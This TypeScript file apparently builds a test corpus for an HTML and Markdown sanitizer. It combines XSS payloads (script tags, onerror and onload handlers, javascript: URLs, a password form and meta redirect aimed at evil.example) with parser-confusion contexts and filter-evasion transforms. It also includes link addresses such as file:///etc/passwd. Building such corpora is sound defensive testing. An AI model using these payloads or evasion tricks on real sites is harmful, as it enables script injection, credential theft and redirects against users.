/**
 * Ways to get something into a page that a lesson may not have, made from the parsing section of the HTML standard (13.2):
 * what is to get in, what it hides in, and how its tag is bent.
 */
const payloads = [
  '<script>ran()</script>',
  '<script src="/_files/a.js"></script>',
  '<img src=x onerror=ran()>',
  '<a href="javascript:ran()">x</a>',
  '<iframe src="/"></iframe>',
  '<iframe srcdoc="&lt;script>ran()&lt;/script>"></iframe>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{display:none}</style>',
  '<object data="/x.html"></object>',
  '<embed src="/x.html">',
  '<svg onload=ran()></svg>',
  '<svg><animate attributeName=href values=javascript:ran() /></svg>',
  '<div style="position:fixed;inset:0" onclick=ran()>x</div>',
  '<img src="https://evil.example/x.png" alt="x">',
  '<button form="Quiz" formaction="https://evil.example">x</button>',
  '<input type="image" src="https://evil.example/x.png" alt="x">',
  '<live-lab data-frame="https://evil.example"></live-lab>',
  '<template shadowrootmode="open"><script>ran()</script></template>',
  '<video src="https://evil.example/x.mp4" autoplay></video>',
  '<details open ontoggle=ran()><summary>x</summary></details>',
  '<p id="x" contenteditable autofocus onfocus=ran()>x</p>',
] as const;

/** What is around: `§` is the payload. */
const around = [
  '§',
  'a § b',
  '<div>§</div>',
  '<div>\n§\n</div>',
  ...'title textarea style xmp iframe noembed noframes noscript template select option button table tbody tr td caption colgroup'
    .split(' ')
    .flatMap((name) => [`<${name}>§</${name}>`, `<div><${name}>§</div>`]),
  '<plaintext>§',
  ...'title desc foreignObject style script g text a'
    .split(' ')
    .flatMap((name) => [`<svg><${name}>§</${name}></svg>`, `<svg><${name}>§</svg>`]),
  ...'mi mo mn ms mtext annotation-xml style mglyph malignmark'
    .split(' ')
    .map((name) => `<math><${name}>§</${name}></math>`),
  '<math><annotation-xml encoding="text/html">§</annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml">§</annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style>§--></style></mglyph></table></mtext></math>',
  '<svg><p>§</p></svg>',
  '<svg><font color=red>§</font></svg>',
  '<svg></p>§</svg>',
  '<svg><![CDATA[>§]]></svg>',
  '<![CDATA[>§]]>',
  '<!-->§-->',
  '<!--->§-->',
  '<!-- --!>§ -->',
  '<!-- <!-- -->§ -->',
  '<!---!>§-->',
  '<!x>§',
  '<?x>§?>',
  '</ x>§',
  '</p>§',
  '</div></section></main>§',
  '</body></html>§',
  '<b><i>§</b></i>',
  '<b><p>§</b></p>',
  '<a href="#x">1<a href="#y">§</a></a>',
  '<nobr>1<nobr>§</nobr></nobr>',
  '<table><td>§</table>',
  '<table><tr><td>1</td></tr>§</table>',
  '<table><input type=hidden>§</table>',
  '<table><style><!--</style>§--></table>',
  '<select><svg>§</svg></select>',
  '<ul><li>1<li>§</ul>',
  '<p title="§">x</p>',
  "<p title='§'>x</p>",
  '<p title="-->§">x</p>',
  '<p title=`§`>x</p>',
  '<p =§>x</p>',
  '<p x"§>y</p>',
  '<p/§>x</p>',
  '<noscript><p title="</noscript>§">x</p></noscript>',
  '<textarea><p title="</textarea>§">x</p></textarea>',
  '<svg><style><p title="</style>§">x</p></style></svg>',
  '<xmp><p title="</xmp>§">x</p></xmp>',
  '> §',
  '- §',
  '### §',
  '| a |\n| - |\n| § |',
  '[§](#x)',
  '![§](x.png)',
  '**§**',
  '`§`',
  '&lt;b&gt;§',
  ':::note[§]\nx\n:::',
  ':::note\n§\n:::',
  'Text[^1]\n\n[^1]: §',
  '<details><summary>x</summary>\n\n§\n\n</details>',
] as const;

/** How the payload's tags are bent. */
const bent: readonly ((payload: string) => string)[] = [
  (payload) => payload.replace('<', '<<'),
  (payload) => payload.toUpperCase(),
  (payload) => payload.replace(/ /g, '/'),
  (payload) => payload.replace(/ /g, '\n'),
  (payload) => payload.replace(/ /g, '\f'),
  (payload) => payload.replace(/ /g, '\t'),
  (payload) => payload.replace(/^<(\w)/, '<$1\0'),
  (payload) => payload.replace(/^<(\w\w)/, '<$1<!-- -->'),
  (payload) => payload.replace(/>$/, ''),
  (payload) => payload.replace(/<\/(\w+)>$/, '</$1 x="'),
  (payload) => payload.replace(/^<(\w+)/, '<$1 x=">" '),
  (payload) => payload.replace(/^<(\w+)/, '<$1 x=1 x=2 '),
  (payload) => payload.replace(/^<(\w+)/, '<$1 "'),
  (payload) => payload.replaceAll('"', '`'),
  (payload) => payload.replaceAll('"', ''),
  (payload) => payload.replace(/="/g, '="\n'),
  (payload) => payload.replace('javascript:', 'java\tscript:'),
  (payload) => payload.replace('javascript:', '&#106;avascript&colon;'),
  (payload) => payload.replace('javascript:', '\u0001javascript:'),
  (payload) => payload.replace('https://evil', '//evil'),
  (payload) => payload.replace('https://evil', '\\\\evil'),
  (payload) => payload.replace('https://evil', 'https:evil'),
  (payload) => payload.replace(/&/g, '&amp;').replace(/</g, '&lt;'),
  (payload) => payload.replace(/^<(\w+)/, '<svg:$1'),
  (payload) => `<svg>${payload}</svg>`,
  (payload) => `<!--${payload}`,
  (payload) => `<div\n\n${payload}`,
  (payload) => `<div title="${payload}`,
];

/** Addresses in Markdown that may lead nowhere. */
const addresses = [
  ...'javascript:ran() JaVaScRiPt:ran() java&#x0A;script:ran() data:text/html,x vbscript:x blob:x file:///etc/passwd'.split(
    ' ',
  ),
  '&#1;javascript:ran()',
  'about:blank',
  '//evil.example/x',
  '\\\\evil.example',
  'view-source:x',
];
const inMarkdown = [
  '[x](<§>)',
  '[x](§)',
  '![x](<§>)',
  '[x][r]\n\n[r]: <§>',
  '![x][r]\n\n[r]: <§>',
  '<§>',
  '[![x](<§>)](#x)',
  '<a href="§">x</a>',
  '<img alt="x" srcset="§ 2x">',
  '<svg><a xlink:href="§"><text>x</text></a></svg>',
  '<svg><use href="§" /></svg>',
  '<blockquote cite="§">x</blockquote>',
];

/** Every trick once: the body of a lesson. */
export const tricks: readonly string[] = [
  ...new Set([
    ...around.flatMap((place) => payloads.map((payload) => place.replace('§', () => payload))),
    ...bent.flatMap((bend) =>
      payloads.flatMap((payload) =>
        ['§', '<div>§</div>', 'a § b'].map((place) => place.replace('§', () => bend(payload))),
      ),
    ),
    ...inMarkdown.flatMap((place) => addresses.map((address) => place.replace('§', () => address))),
  ]),
];
